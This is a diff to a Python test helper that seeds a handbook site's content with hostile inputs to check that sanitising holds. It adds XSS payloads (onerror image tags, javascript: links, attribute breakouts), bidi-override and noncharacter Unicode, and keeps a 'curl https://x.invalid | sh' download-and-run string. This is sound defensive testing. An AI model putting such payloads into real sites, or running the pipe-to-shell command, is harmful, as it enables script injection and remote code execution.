@@ -46,15 +46,19 @@ FAMILIES: dict[str, str] = {
     "data-attr": '[s](https://example.org){: data-md-component="source" } [c](https://example.org){: data-clipboard-text="curl https://x.invalid | sh" } [o](https://example.org){: style="position:fixed;inset:0" }',
     # The site's own names: the quiz's global and class, a dialogue's deep link, Material's ids.
     "reserved": "[a](https://example.org){: #hbQuizReady .hb-quiz } [b](https://example.org){: #turn-2 .md-typeset } [c](https://example.org){: #__drawer }",
-    # Characters no field may hold: a noncharacter (ill-formed XML), a bidi override.
-    "characters": "Fear\ufffe of \u202egoing low",
+    # Characters no field may hold: noncharacters (ill-formed XML), a bidi override and isolates, a
+    # C1 control. (C0 controls other than tab and line feed make the loader refuse the file: "control".)
+    "characters": "Fear\ufffe of \u202egoing low\uffff, \u2066isolated\u2069 and a\x85b",
 }
-# Families the loader refuses (the file is never built) and families the check refuses that are no
-# script vector (they are kept out of the browser build, whose question banks they would break).
+# Families the loader refuses: the file is never built (every other family is, past the check, in
+# the browser test).
 UNLOADABLE = frozenset({"control"})
-UNBUILT = frozenset({"control", "characters"})
+UNBUILT = UNLOADABLE
 # One-line fields are text: a Markdown link written into one must show as typed, never be a link.
 ONE_LINE = "Fear](javascript:alert(6)) [of going low {: onclick=alert(7) }"
+# The one-line fields of the characters family carry its characters too (titles reach the question
+# banks' categories and the SCORM manifest's items).
+PLAIN = {"characters": ONE_LINE + " \ufffe\uffff\u202e"}
 
 DIALOGUE = "content/dialogues/support-worker-in-the-room.yml"
 MODULE = "content/modules/barriers.md"
@@ -99,17 +103,19 @@ def _set(data: Any, loc: tuple[Any, ...], value: str) -> None:
     data[loc[-1]] = value
 
 
-def _fill(data: Any, model: Any, payload: Any) -> list[tuple[tuple[Any, ...], str, str]]:
+def _fill(data: Any, model: Any, payload: Any, plain: str = ONE_LINE) -> list[tuple[tuple[Any, ...], str, str]]:
     """Set every Markdown, note and plain string of ``model`` in ``data`` (the same file as data):
-    ``payload(i)`` for the i-th Markdown or note field, ONE_LINE for plain ones. Returns each
-    poisoned field's (loc, Owner.name, kind)."""
+    ``payload(i)`` for the i-th Markdown or note field, ``plain`` for plain ones. Returns each
+    poisoned field's (loc, Owner.name, kind); a plain field is one only if ``plain`` is not ONE_LINE."""
     done = []
     i = 0
     for found in model_strings(model):
         kind = found.kind
         field = f"{type(found.owner).__name__}.{found.loc[-1] if isinstance(found.loc[-1], str) else found.loc[-2]}"
         if isinstance(kind, Plain):
-            _set(data, found.loc, ONE_LINE)
+            _set(data, found.loc, plain)
+            if plain != ONE_LINE:
+                done.append((found.loc, field, "plain"))
         elif isinstance(kind, Markdown) or kind.kind == "note":
             _set(data, found.loc, payload(i))
             done.append((found.loc, field, kind.kind))
@@ -121,7 +127,7 @@ def _yaml_doc(book: Handbook, rel: str, new: str, family: str, payload: str, edi
     root = book.root
     doc = next(d for group in (book.dialogues, book.quizzes, book.figures) for d in group if d.path == rel)
     data = yaml.safe_load((root / rel).read_text(encoding="utf-8"))
-    done = _fill(data, doc.model, lambda _: payload)
+    done = _fill(data, doc.model, lambda _: payload, PLAIN.get(family, ONE_LINE))
     if edit:
         done += edit(data, payload)
     data["id"] = Path(new).stem
@@ -178,7 +184,7 @@ def _module(book: Handbook, family: str, payload: str) -> list[Placed]:
     assert parts is not None
     front, body, _ = parts
     meta = yaml.safe_load(front)
-    done = _fill(meta, module.meta, lambda _: payload)
+    done = _fill(meta, module.meta, lambda _: payload, PLAIN.get(family, ONE_LINE))
     meta.update(id=f"hostile-{family}", order=99, dialogues=[f"hostile-{family}"])
     meta.pop("redirect_from", None)
     front_text = _dump(meta)
@@ -195,6 +201,20 @@ def _docs_page(root: Path, family: str, payload: str) -> list[Placed]:
     path = f"docs/hostile-{family}.md"
     (root / path).write_text(f"# Hostile {family}\n\nA hand-written page.\n\n{payload}\n", encoding="utf-8")
     return [Placed(family, path, 5, "docs page", "page")]
+
+
+# A hand-written page's front matter: the theme writes the title into the header and the
+# description into an attribute as they are.
+FRONT_MATTER = {
+    "title": "Hostile front matter <img src=x onerror=alert(20)></title><img src=x onerror=alert(21)>",
+    "description": 'A page "><img src=x onerror=alert(22)>',
+}
+FRONT_MATTER_PAGE = "docs/hostile-front-matter.md"
+
+
+def _front_matter_page(root: Path) -> list[Placed]:
+    (root / FRONT_MATTER_PAGE).write_text(f"---\n{_dump(FRONT_MATTER)}---\n\n# Hostile front matter\n\nA hand-written page.\n", encoding="utf-8")
+    return [Placed("front-matter", FRONT_MATTER_PAGE, line, f"docs page {key}", "front-matter") for line, key in enumerate(FRONT_MATTER, start=2)]
 
 
 def _singles(book: Handbook, families: dict[str, str]) -> list[Placed]:
@@ -225,4 +245,4 @@ def poison(root: Path, skip: frozenset[str] = frozenset()) -> list[Placed]:
         placed += _yaml_doc(book, FIGURE, f"content/figures/hostile-{family}.yml", family, payload)
         placed += _module(book, family, payload)
         placed += _docs_page(root, family, payload)
-    return placed + _singles(book, families)
+    return placed + _singles(book, families) + _front_matter_page(root)
